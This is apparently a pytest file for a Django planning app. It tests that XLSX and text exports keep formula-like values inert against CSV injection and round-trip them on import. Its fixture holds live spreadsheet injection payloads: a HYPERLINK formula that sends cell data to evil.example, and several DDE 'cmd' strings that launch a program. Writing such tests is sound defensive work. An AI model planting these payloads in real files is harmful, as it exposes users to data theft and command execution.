"""Exports keep formula-like text inert (OWASP CSV injection) and give it back exactly on import."""

import io

import pytest
from openpyxl import load_workbook

from egov_plan.plans.models import Indicator
from reports.plans.exchange import read_plan_file
from tests.conftest import client_for
from tests.helpers import indicator_by_code

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"বিস্তারিত")'
DDE = "=cmd|' /C calc'!A0"


@pytest.fixture
def hostile_plan(people):
    """The seed plan with formula-like office, plan, location, indicator and signatory texts."""
    plan = people.plan
    plan.office.name, plan.office.location = HYPERLINK, "@SUM(1+1)*cmd|' /C calc'!A0"
    plan.office.save()
    plan.title = DDE
    plan.save()
    Indicator.objects.filter(pk=indicator_by_code(plan, "1.1.1").pk).update(
        title="-2+3+cmd|' /C calc'!A0"
    )
    signatory = plan.signatories.first()
    signatory.name, signatory.line_1 = "+1+cmd|' /C calc'!A0", "'=এটি লেখা, সূত্র নয়"
    signatory.save()
    return plan


def export(people, plan, extension):
    response = client_for(people.officer).get(f"/plans/{plan.pk}/quarters/1/export.{extension}")
    assert response.status_code == 200
    return response.content


def test_the_xlsx_stores_formula_like_text_as_text_cells(people, hostile_plan):
    data = export(people, hostile_plan, "xlsx")
    sheet = load_workbook(
        io.BytesIO(data)
    ).active  # not data_only: formulas would come back as formulas
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    values = {cell.value for cell in cells}
    assert {HYPERLINK, hostile_plan.office.location, "+1+cmd|' /C calc'!A0"} <= values
    assert any(str(v).startswith(DDE) for v in values)


def test_the_text_export_starts_no_cell_with_a_formula_character(people, hostile_plan):
    text = export(people, hostile_plan, "txt").decode()
    cells = [cell for line in text.split("\n") for cell in line.split("\t")]
    assert not [
        cell
        for cell in cells
        if cell.startswith(("=", "+", "@")) or (cell[:1] == "-" and cell.strip("-"))
    ]
    assert f"'{HYPERLINK}" in cells and "''=এটি লেখা, সূত্র নয়" in cells


@pytest.mark.parametrize("extension", ["txt", "xlsx"])
def test_importing_the_export_gives_every_text_back_exactly(people, hostile_plan, extension):
    document, faults = read_plan_file(
        export(people, hostile_plan, extension), f"export.{extension}"
    )
    assert faults == []
    assert document["office"] == {"name": HYPERLINK, "location": "@SUM(1+1)*cmd|' /C calc'!A0"}
    assert document["plan"]["title"] == DDE
    assert (
        document["areas"][0]["activities"][0]["indicators"][0]["title"] == "-2+3+cmd|' /C calc'!A0"
    )
    assert document["signatories"][0]["name"] == "+1+cmd|' /C calc'!A0"
    assert document["signatories"][0]["lines"][0] == "'=এটি লেখা, সূত্র নয়"
